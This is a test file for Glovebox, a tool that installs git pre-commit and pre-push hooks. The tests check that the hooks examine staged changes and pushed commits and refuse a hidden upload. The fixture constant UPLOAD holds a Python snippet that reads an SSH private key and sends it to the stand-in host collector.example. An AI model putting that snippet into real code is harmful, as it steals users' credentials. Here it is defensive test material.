import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { TestRepositories, type TestRepository } from '../gate/git/repository.fixture.ts';
import { hookStates, installHooks, uninstallHooks } from '../gate/hooks/install.ts';
import { HOOKS } from '../gate/hooks/script.ts';

const MAIN = fileURLToPath(new URL('./main.ts', import.meta.url));
const repositories = new TestRepositories();
let programs: string;
beforeAll(() => {
  programs = mkdtempSync(join(tmpdir(), 'glovebox-hook-'));
  const script = `#!/bin/sh\nexec '${process.execPath}' '${MAIN}' "$@"\n`;
  writeFileSync(join(programs, 'glovebox'), script, { mode: 0o755 });
});
afterAll(() => rmSync(programs, { recursive: true, force: true }));
afterEach(() => repositories.removeAll());

const UPLOAD = `import urllib.request
key = open('/home/user/.ssh/id_rsa').read()
urllib.request.urlopen('https://collector.example/', data=key.encode())
`;

/** Git as a developer has it, with Glovebox on the path. */
function git(repository: TestRepository, ...args: string[]): { ok: boolean; said: string } {
  return gitOn(`${programs}${delimiter}${process.env.PATH}`, repository, args);
}

/** The same on a machine without Glovebox: only what git and a shell need is on the path. */
function gitWithoutGlovebox(repository: TestRepository, ...args: string[]): { ok: boolean; said: string } {
  return gitOn('/usr/bin:/bin', repository, args);
}

function gitOn(path: string, repository: TestRepository, args: readonly string[]): { ok: boolean; said: string } {
  try {
    return { ok: true, said: repository.gitWith({ PATH: path }, ...args) };
  } catch (error) {
    return { ok: false, said: String((error as { stderr?: Buffer }).stderr) };
  }
}

function made(): TestRepository {
  const repository = repositories.make();
  repository.commit({ 'a.py': 'print(1)\n' });
  return repository;
}

/** Each examines several times, on a machine that may be busy. */
const AMPLE = { timeout: 120_000 };

describe('before a commit', AMPLE, () => {
  it('what is staged is examined, and a hidden upload refused, whatever the work tree says', async () => {
    const repository = made();
    await installHooks(repository.folder, ['pre-commit']);
    repository.stage({ 'a.py': UPLOAD });
    repository.write({ 'a.py': 'print("harmless")\n' });
    const refused = git(repository, 'commit', '-q', '-m', 'bad');
    expect(refused).toMatchObject({ ok: false, said: expect.stringContaining('git commit --no-verify') });
    expect(repository.git('rev-list', '--count', 'HEAD')).toBe('1');
    repository.stage({ 'a.py': 'print("harmless")\n' });
    repository.write({ 'a.py': UPLOAD });
    expect(git(repository, 'commit', '-q', '-m', 'good')).toMatchObject({ ok: true });
    // A commit of one file has an index of its own.
    expect(git(repository, 'commit', '-q', '-m', 'bad', 'a.py')).toMatchObject({ ok: false });
    expect(git(repository, 'commit', '-q', '-a', '--no-verify', '-m', 'past')).toMatchObject({ ok: true });
    expect(repository.git('rev-list', '--count', 'HEAD')).toBe('3');
  });

  it('nothing goes through where Glovebox is missing or cannot be trusted', async () => {
    const repository = made();
    await installHooks(repository.folder, ['pre-commit']);
    repository.stage({ 'b.py': 'print(2)\n' });
    const missing = gitWithoutGlovebox(repository, 'commit', '-q', '-m', 'x');
    expect(missing).toMatchObject({ ok: false, said: expect.stringMatching(/glovebox: not found[\s\S]*--no-verify/) });
    // A program that came with the commits decides nothing.
    const came = { program: '#!/bin/sh\nexit 0\n' };
    repository.stage({ 'node_modules/.bin/glovebox': came });
    expect(gitWithoutGlovebox(repository, 'commit', '-q', '-m', 'x')).toMatchObject({ ok: false });
    repository.git('rm', '-q', '--cached', 'node_modules/.bin/glovebox');
    // Nor does one whose link is ours and leads to what came.
    repository.stage({ 'node_modules/glovebox/bin/glovebox.js': came });
    repository.git('rm', '-q', '--cached', 'node_modules/.bin/glovebox');
    repository.write({ 'node_modules/.bin/glovebox': { link: '../glovebox/bin/glovebox.js' } });
    expect(gitWithoutGlovebox(repository, 'commit', '-q', '-m', 'x')).toMatchObject({ ok: false });
    repository.git('rm', '-r', '-q', '--cached', 'node_modules');
    repository.write({ 'node_modules/.bin/glovebox': came });
    expect(gitWithoutGlovebox(repository, 'commit', '-q', '-m', 'x')).toMatchObject({ ok: true });
  });

  it('in a work tree beside the first', async () => {
    const repository = made();
    await installHooks(repository.folder, ['pre-commit']);
    const tree = `${repository.folder}-tree`;
    repository.git('worktree', 'add', '-q', tree, '-b', 'topic');
    writeFileSync(join(tree, 'a.py'), UPLOAD);
    repository.git('-C', tree, 'add', '-A');
    expect(git(repository, '-C', tree, 'commit', '-q', '-m', 'bad')).toMatchObject({ ok: false });
    rmSync(tree, { recursive: true });
  });
});

describe('before a push', AMPLE, () => {
  it('the commits that are new there are examined', async () => {
    const origin = made();
    const clone = repositories.clone(origin);
    await installHooks(clone.folder, ['pre-push']);
    clone.commit({ 'b.py': 'print(2)\n' });
    expect(git(clone, 'push', '-q', 'origin', 'HEAD:topic')).toMatchObject({ ok: true });
    clone.commit({ 'c.py': UPLOAD });
    const refused = git(clone, 'push', '-q', 'origin', 'HEAD:topic');
    expect(refused).toMatchObject({ ok: false, said: expect.stringContaining('git push --no-verify') });
    expect(git(clone, 'push', '-q', 'origin', ':topic')).toMatchObject({ ok: true });
    expect(origin.git('branch', '--list', 'topic')).toBe('');
  });
});

describe('hooks', AMPLE, () => {
  it('keep what was there, run it first, and put it back', async () => {
    const repository = made();
    const path = join(repository.folder, '.git/hooks/pre-commit');
    const first = '#!/bin/sh\necho ran >> .git/first\ntest ! -e .git/refuse\n';
    repository.write({ '.git/hooks/pre-commit': { program: first } });
    const [hook] = await installHooks(repository.folder, ['pre-commit']);
    expect(hook).toMatchObject({ state: 'installed', keeps: `${path}.before-glovebox` });
    const written = readFileSync(path, 'utf8');
    expect(written).not.toContain(dirname(dirname(path)));
    await installHooks(repository.folder, ['pre-commit']);
    expect(readFileSync(path, 'utf8')).toBe(written);
    repository.stage({ 'b.md': 'x\n', '.git/refuse': '' });
    expect(git(repository, 'commit', '-q', '-m', 'x')).toMatchObject({ ok: false });
    rmSync(join(repository.folder, '.git/refuse'));
    expect(git(repository, 'commit', '-q', '-m', 'x')).toMatchObject({ ok: true });
    expect(readFileSync(join(repository.folder, '.git/first'), 'utf8')).toBe('ran\nran\n');
    await uninstallHooks(repository.folder, HOOKS);
    expect(readFileSync(path, 'utf8')).toBe(first);
    expect((await hookStates(repository.folder, HOOKS)).map(({ state }) => state)).toEqual(['other', 'absent']);
  });

  it('hand what git tells of a push to the hook that was there, too', async () => {
    const origin = made();
    const clone = repositories.clone(origin);
    clone.write({ '.git/hooks/pre-push': { program: '#!/bin/sh\necho "$1" > .git/first\ncat >> .git/first\n' } });
    await installHooks(clone.folder, ['pre-push']);
    const commit = clone.commit({ 'b.md': 'x\n' });
    expect(git(clone, 'push', '-q', 'origin', 'HEAD:topic')).toMatchObject({ ok: true });
    const zeros = '0'.repeat(40);
    expect(readFileSync(join(clone.folder, '.git/first'), 'utf8')).toBe(
      `origin\nHEAD ${commit} refs/heads/topic ${zeros}\n`,
    );
  });

  it('are written where core.hooksPath says, and not where others share them', async () => {
    const repository = made();
    repository.git('config', 'core.hooksPath', '.githooks');
    const [hook] = await installHooks(repository.folder, ['pre-commit']);
    expect(hook?.path).toBe(join(repository.folder, '.githooks/pre-commit'));
    repository.stage({ 'a.py': 'print(2)\n' });
    const said = expect.stringContaining('glovebox: not found');
    expect(gitWithoutGlovebox(repository, 'commit', '-q', '-m', 'x')).toMatchObject({ ok: false, said });
    repository.git('config', 'core.hooksPath', programs);
    await expect(installHooks(repository.folder, HOOKS)).rejects.toMatchObject({ code: 'hook-occupied' });
    expect(existsSync(join(programs, 'pre-commit'))).toBe(false);
  });

  it('are left to husky and lefthook, which are told what to run', async () => {
    const repository = made();
    repository.git('config', 'core.hooksPath', '.husky/_');
    await expect(installHooks(repository.folder, HOOKS)).rejects.toMatchObject({
      code: 'hook-occupied',
      remedy: expect.stringContaining('.husky/pre-commit: npx glovebox gate --staged'),
    });
    repository.git('config', '--unset', 'core.hooksPath');
    repository.write({ 'lefthook.yml': '' });
    await expect(installHooks(repository.folder, HOOKS)).rejects.toMatchObject({ code: 'hook-occupied' });
  });

  it('take the place of nobody else’s hook twice', async () => {
    const repository = made();
    const other = { program: '#!/bin/sh\n' };
    repository.write({ '.git/hooks/pre-commit': other });
    await installHooks(repository.folder, ['pre-commit']);
    repository.write({ '.git/hooks/pre-commit': other });
    await expect(installHooks(repository.folder, ['pre-commit'])).rejects.toMatchObject({ code: 'hook-occupied' });
  });

  it('are installed, told and taken away by the command', () => {
    const repository = made();
    const hook = (...args: string[]) =>
      execFileSync(process.execPath, [MAIN, 'hook', ...args, '--repository', repository.folder]).toString();
    expect(hook('install', '--pre-push')).toMatch(/^pre-push +installed {2}\S+\/pre-push\n$/);
    expect(JSON.parse(hook('status', '--format', 'json')).hooks).toMatchObject([
      { hook: 'pre-commit', state: 'absent' },
      { hook: 'pre-push', state: 'installed' },
    ]);
    expect(hook('uninstall')).toMatch(/pre-commit +not installed[\s\S]*pre-push +not installed/);
  });
});
